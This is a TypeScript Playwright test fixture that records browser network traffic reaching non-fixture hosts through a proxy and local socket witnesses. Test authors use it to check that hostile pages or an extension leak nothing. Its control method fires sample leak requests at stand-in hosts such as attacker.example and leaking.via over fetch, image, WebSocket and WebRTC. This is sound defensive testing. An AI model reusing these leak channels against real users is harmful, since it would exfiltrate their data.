import { randomBytes } from 'node:crypto';
import type { Page } from '@playwright/test';
import type { ProxyRecord, RecordingProxy } from './proxy';
import type { SocketHit, SocketWitnessClient } from './socket-witness';
import { DIRECT_TCP_PORT, TCP_WITNESS_PORTS, UDP_WITNESS_PORTS, WITNESS_IP } from './socket-witness';

/**
 * - `http`: plain http request to a non-fixture host (recorded by the proxy, with path).
 * - `connect`: CONNECT tunnel opened to a non-fixture host (https, wss, ws, preconnect, TURN/TCP).
 * - `https` / `ws` / `wss`: the request seen inside such a tunnel (the proxy terminates it).
 * - `tunnel-raw`: non-HTTP bytes inside a tunnel (e.g. a TURN allocation over TCP via the proxy).
 * - `tcp` / `udp`: a connection / datagram reaching a raw socket witness on 127.0.0.1.
 */
export type HitChannel = 'http' | 'https' | 'ws' | 'wss' | 'connect' | 'tunnel-raw' | 'tcp' | 'udp';

export interface WitnessHit {
  channel: HitChannel;
  /** Which witness saw it. */
  via: 'proxy' | 'socket';
  /** Host name or IP literal (socket hits: the witness IP, 127.0.0.1). */
  host: string;
  port: number;
  method?: string;
  /** Path + query, when known. */
  path?: string;
  time: number;
  /** Always false: fixture-host traffic is never a hit. */
  fixture: false;
  /** Origin or Referer of the request when it carried one (proxy hits only). */
  initiator?: string;
  /** Socket hits: the sender and which browser it belongs to. */
  from?: { address: string; port: number };
  pid?: number;
  /** Browser tag; undefined = could not be attributed (counted for every test, never dropped). */
  tag?: string;
  attribution?: string;
  bytes?: number;
  preview?: string;
  /** The underlying record. */
  record: ProxyRecord | SocketHit;
}

export interface ControlResult {
  /** fetch('http://attacker.example/control'): plain proxied http. */
  http: WitnessHit[];
  /** <img src="https://leaking.via/control.png">: CONNECT + request inside the tunnel. */
  https: WitnessHit[];
  /** new WebSocket('ws://attacker.example/ws'): CONNECT :80 + upgrade request inside the tunnel. */
  ws: WitnessHit[];
  /** RTCPeerConnection stun:127.0.0.1:3478: UDP datagrams (binding requests) at the UDP witness. */
  stun: WitnessHit[];
  /** turn:127.0.0.1:3478?transport=tcp: Chromium sends it through the proxy (CONNECT 127.0.0.1:3478). */
  turn: WitnessHit[];
  /** fetch('http://127.0.0.1:47474/control'): proxy-bypassed, reaches the raw TCP witness directly. */
  tcp: WitnessHit[];
}

function proxyChannel(r: ProxyRecord): HitChannel {
  switch (r.kind) {
    case 'http':
      return 'http';
    case 'upgrade':
      return 'ws';
    case 'connect':
      return 'connect';
    case 'tunnel-http':
      return r.websocket ? 'ws' : 'http';
    case 'tunnel-https':
      return r.websocket ? 'wss' : 'https';
    case 'tunnel-raw':
      return 'tunnel-raw';
  }
}

function fromProxy(r: ProxyRecord): WitnessHit {
  const hit: WitnessHit = {
    channel: proxyChannel(r), via: 'proxy', host: r.host, port: r.port, method: r.method, time: r.time, fixture: false, record: r,
  };
  if (r.path !== undefined) hit.path = r.path;
  if (r.initiator !== undefined) hit.initiator = r.initiator;
  if (r.bodyBytes !== undefined) hit.bytes = r.bodyBytes;
  if (r.bodyPreview) hit.preview = r.bodyPreview;
  return hit;
}

function fromSocket(h: SocketHit): WitnessHit {
  const hit: WitnessHit = {
    channel: h.channel, via: 'socket', host: WITNESS_IP, port: h.port, time: h.time, fixture: false,
    from: h.from, bytes: h.bytes, preview: h.preview, record: h,
  };
  if (h.pid !== undefined) hit.pid = h.pid;
  if (h.tag !== undefined) hit.tag = h.tag;
  if (h.attribution !== undefined) hit.attribution = h.attribution;
  return hit;
}

export function describeHit(h: WitnessHit): string {
  const where = h.via === 'socket' ? `${h.channel.toUpperCase()} ${h.host}:${h.port} from :${h.from?.port ?? '?'}` : `${h.method ?? ''} ${h.channel}://${h.host}:${h.port}${h.path ?? ''}`;
  const extra = [
    h.initiator && `initiator ${h.initiator}`,
    h.tag === undefined && h.via === 'socket' && `UNATTRIBUTED (${h.attribution ?? '?'})`,
    h.preview && `preview ${JSON.stringify(h.preview.slice(0, 80))}`,
  ].filter(Boolean);
  return `${where}${extra.length ? `  [${extra.join('; ')}]` : ''}`;
}

/**
 * The `witness` fixture: everything that escaped towards a non-fixture destination since the
 * test started (or since `clear()`), from the recording proxy and the raw TCP/UDP witnesses.
 */
export class Witness {
  private proxyBaseline: number;
  private socketBaseline = 0;

  constructor(
    private readonly proxy: RecordingProxy,
    private readonly sockets: SocketWitnessClient,
    /** Written into the browser's environment; socket hits carry it when attributed. */
    readonly tag: string,
  ) {
    this.proxyBaseline = proxy.lastSeq;
  }

  /** Ports and URLs hostile tests can aim at. */
  readonly ip = WITNESS_IP;
  readonly tcpPorts = TCP_WITNESS_PORTS;
  readonly udpPorts = UDP_WITNESS_PORTS;
  readonly directTcpPort = DIRECT_TCP_PORT;
  readonly urls = {
    stun: `stun:${WITNESS_IP}:3478`,
    turnUdp: `turn:${WITNESS_IP}:3478?transport=udp`,
    turnTcp: `turn:${WITNESS_IP}:3478?transport=tcp`,
    directHttp: `http://${WITNESS_IP}:${DIRECT_TCP_PORT}/`,
  } as const;

  /** @internal */
  async init(): Promise<this> {
    await this.clear();
    return this;
  }

  /** Forget everything recorded so far (for this test). */
  async clear(): Promise<void> {
    this.proxyBaseline = this.proxy.lastSeq;
    this.socketBaseline = await this.sockets.lastSeq();
  }

  /** Every proxy record since the last clear, fixture hosts and excluded background requests included. */
  log(): ProxyRecord[] {
    return this.proxy.all().filter((r) => r.seq > this.proxyBaseline);
  }

  /** Background requests that matched a deliberate exclusion since the last clear. */
  ignored(): ProxyRecord[] {
    return this.log().filter((r) => !r.fixture && r.ignored);
  }

  /**
   * All hits since the last clear: proxy requests to non-fixture hosts (not excluded) and socket
   * witness hits from this test's browser or unattributable ones. Sorted by time.
   */
  async hits(): Promise<WitnessHit[]> {
    await this.settleExcludableTunnels();
    const socketHits = (await this.sockets.hits(this.socketBaseline))
      .filter((h) => h.tag === undefined || h.tag === this.tag)
      .map(fromSocket);
    // An empty tunnel to a host on the background list carries nothing but that fixed host name:
    // Chromium opens such tunnels (preconnects for its own sign-in and update checks) and may never use them.
    const hosts = this.proxy.excludedHosts;
    const proxyHits = this.log()
      .filter((r) => !r.fixture && !r.ignored)
      .filter((r) => !(r.kind === 'connect' && hosts.has(r.host) && this.proxy.tunnelCarriedNothing(r.seq)))
      .map(fromProxy);
    return [...proxyHits, ...socketHits].sort((a, b) => a.time - b.time);
  }

  /**
   * A CONNECT to a host with a background exclusion is a hit until the request inside it has been
   * seen (and matched the exclusion). Chromium's startup requests open such tunnels right after
   * launch; give a young, still-empty tunnel up to 2 s to carry its request, so an early
   * `hits()` does not report the CONNECT alone.
   */
  private async settleExcludableTunnels(): Promise<void> {
    const hosts = this.proxy.excludedHosts;
    for (;;) {
      const now = Date.now();
      const pending = this.log().filter(
        (r) => r.kind === 'connect' && !r.fixture && hosts.has(r.host) && now - r.time < 2000 && this.proxy.tunnelAwaitingRequest(r.seq),
      );
      if (pending.length === 0) return;
      await new Promise((res) => setTimeout(res, 25));
    }
  }

  /** Hits whose host equals (or matches) `host`. Socket hits have host 127.0.0.1. */
  async hitsFor(host: string | RegExp): Promise<WitnessHit[]> {
    const match = (h: string): boolean => (typeof host === 'string' ? h === host.toLowerCase() : host.test(h));
    return (await this.hits()).filter((h) => match(h.host));
  }

  /** Polls until `predicate` returns true for the current hits; returns them. */
  async waitForHits(
    predicate: (hits: WitnessHit[]) => boolean,
    opts: { timeout?: number; message?: string } = {},
  ): Promise<WitnessHit[]> {
    const deadline = Date.now() + (opts.timeout ?? 5000);
    for (;;) {
      const hits = await this.hits();
      if (predicate(hits)) return hits;
      if (Date.now() > deadline) {
        throw new Error(`${opts.message ?? 'witness: condition not met'} within ${opts.timeout ?? 5000} ms; hits:\n${this.format(hits)}`);
      }
      await new Promise((r) => setTimeout(r, 50));
    }
  }

  /**
   * Waits `settleMs` (default 500) for in-flight traffic, then throws if anything was recorded.
   * Use at the end of a hostile test.
   */
  async expectNoHits(opts: { settleMs?: number } = {}): Promise<void> {
    await new Promise((r) => setTimeout(r, opts.settleMs ?? 500));
    const hits = await this.hits();
    if (hits.length) throw new Error(`witness recorded ${hits.length} escaping request(s):\n${this.format(hits)}`);
  }

  format(hits: WitnessHit[]): string {
    return hits.length ? hits.map((h) => `  - ${describeHit(h)}`).join('\n') : '  (none)';
  }

  /**
   * Proves every witness channel can see: from an ordinary fixture page (http, not the
   * extension) makes one request per channel and waits until each is recorded. Uses `page` if
   * it is an http: page on a fixture host, else opens (and closes) a tab on http://other.test/.
   * Does not clear: call `witness.clear()` afterwards before the hostile part of a test.
   */
  async control(page: Page, opts: { timeout?: number } = {}): Promise<ControlResult> {
    const nonce = randomBytes(6).toString('hex');
    let target = page;
    let own = false;
    if (!/^http:\/\/[^/]+\.test(?::\d+)?\//.test(page.url())) {
      target = await page.context().newPage();
      own = true;
      await target.goto('http://other.test/index.html');
    }
    try {
      await target.evaluate(
        ({ n, ip, port }) => {
          const w = window as unknown as { __witnessControl?: RTCPeerConnection[] };
          void fetch(`http://attacker.example/control?n=${n}`, { mode: 'no-cors' }).catch(() => undefined);
          void fetch(`http://${ip}:${port}/control?n=${n}`, { mode: 'no-cors' }).catch(() => undefined);
          const img = new Image();
          img.src = `https://leaking.via/control.png?n=${n}`;
          const ws = new WebSocket(`ws://attacker.example/ws?n=${n}`);
          ws.onerror = () => undefined;
          const pc = new RTCPeerConnection({
            iceServers: [
              { urls: `stun:${ip}:3478` },
              { urls: `turn:${ip}:3478?transport=tcp`, username: 'witness', credential: 'control' },
            ],
          });
          pc.createDataChannel('control');
          void pc.createOffer().then((o) => pc.setLocalDescription(o));
          (w.__witnessControl ??= []).push(pc);
        },
        { n: nonce, ip: WITNESS_IP, port: DIRECT_TCP_PORT },
      );
      const q = `?n=${nonce}`;
      const pick = (hits: WitnessHit[]): ControlResult => ({
        http: hits.filter((h) => h.channel === 'http' && h.host === 'attacker.example' && h.path === `/control${q}`),
        https: hits.filter(
          (h) =>
            h.host === 'leaking.via' &&
            ((h.channel === 'https' && h.path === `/control.png${q}`) || (h.channel === 'connect' && h.port === 443)),
        ),
        ws: hits.filter(
          (h) => h.host === 'attacker.example' && ((h.channel === 'ws' && h.path === `/ws${q}`) || (h.channel === 'connect' && h.port === 80)),
        ),
        stun: hits.filter((h) => h.channel === 'udp' && h.port === 3478 && h.tag === this.tag),
        turn: hits.filter(
          (h) =>
            (h.channel === 'connect' && h.host === WITNESS_IP && h.port === 3478) ||
            (h.channel === 'tunnel-raw' && h.host === WITNESS_IP && h.port === 3478) ||
            (h.channel === 'tcp' && h.port === 3478 && h.tag === this.tag),
        ),
        tcp: hits.filter((h) => h.channel === 'tcp' && h.port === DIRECT_TCP_PORT && h.tag === this.tag),
      });
      const complete = (r: ControlResult): boolean =>
        r.http.length > 0 &&
        r.https.some((h) => h.channel === 'https') &&
        r.ws.some((h) => h.channel === 'ws') &&
        r.stun.length > 0 &&
        r.turn.length > 0 &&
        r.tcp.length > 0;
      const deadline = Date.now() + (opts.timeout ?? 10_000);
      for (;;) {
        const hits = await this.hits();
        const r = pick(hits);
        if (complete(r)) return r;
        if (Date.now() > deadline) {
          const missing = Object.entries(r)
            .filter(([, v]) => (v as WitnessHit[]).length === 0)
            .map(([k]) => k);
          throw new Error(`witness.control: no hit on channel(s) ${missing.join(', ') || '(partial https/ws)'}; hits:\n${this.format(hits)}`);
        }
        await new Promise((res) => setTimeout(res, 50));
      }
    } finally {
      await target
        .evaluate(() => {
          const w = window as unknown as { __witnessControl?: RTCPeerConnection[] };
          for (const pc of w.__witnessControl ?? []) pc.close();
          w.__witnessControl = [];
        })
        .catch(() => undefined);
      if (own) await target.close().catch(() => undefined);
    }
  }
}
